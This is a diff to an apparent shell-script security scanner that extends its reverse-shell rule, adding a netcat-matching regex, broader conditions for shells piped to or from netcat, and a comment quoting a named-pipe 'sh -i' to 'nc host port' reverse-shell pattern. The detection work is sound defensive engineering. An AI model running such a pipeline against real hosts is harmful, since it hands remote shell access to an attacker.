@@ -17,6 +17,7 @@ const CODE_PARTS: readonly RegExp[] = [
 
 /** UTF-16 code units of the last stages in front of a connection. */
 const MAX_STAGE = 300
+const NETCAT_STAGE = /(?:^|\s|\/)(?:nc|ncat|netcat)\s/
 const SHELL_STAGE = /\|\s{0,5}(?:\/[\w/]{1,40}\/)?(?:ba|z|da)?sh\b/
 
 /** A shell whose commands come from another machine. */
@@ -35,9 +36,12 @@ export function* reverseShells({ steps, text }: ScriptReading): Generator<Proble
     }
     const isReverse =
       (toDevice && isShell) ||
-      (attached && isShell && streams.some(({ target }) => /^\d{1,3}$/.test(target.value))) ||
+      (attached &&
+        (isShell || step.program.dynamic) &&
+        streams.some(({ target }) => /^\d{1,3}$/.test(target.value))) ||
       runsShell(step) ||
-      (NETCAT.has(step.name) && pipe !== undefined && isFedByShell(text, step)) ||
+      (NETCAT.has(step.name) && pipe !== undefined && isFedBy(text, step, SHELL_STAGE)) ||
+      (isShell && pipe !== undefined && isFedBy(text, step, NETCAT_STAGE)) ||
       isCode(step)
     if (isReverse) yield { ...range, rule: 'shell/reverse-shell', severity: 'critical', identity: step.name }
   }
@@ -54,11 +58,10 @@ function runsShell({ name, words }: Step): boolean {
 }
 
 /** `cat pipe | sh -i 2>&1 | nc host port > pipe`. */
-function isFedByShell(text: string, { command }: Step): boolean {
+function isFedBy(text: string, { command }: Step, stage: RegExp): boolean {
   const { input } = command
   return (
-    input !== undefined &&
-    SHELL_STAGE.test(text.slice(Math.max(input.start, input.end - MAX_STAGE), input.end))
+    input !== undefined && stage.test(text.slice(Math.max(input.start, input.end - MAX_STAGE), input.end))
   )
 }
 
